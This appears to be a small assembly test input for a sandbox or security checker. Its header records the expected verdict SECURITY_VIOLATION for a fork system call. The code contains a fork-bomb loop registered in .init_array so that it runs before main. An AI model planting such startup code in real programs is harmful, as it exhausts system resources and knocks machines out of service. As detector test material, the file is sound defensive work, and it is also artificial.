# verdict: SECURITY_VIOLATION
# evidence: system call fork (57)
# The same before main is reached.
bomb:	enter 57
	jmp bomb
	.section .init_array, "aw"
	.quad bomb
	.text
main:	call answer
	jmp done
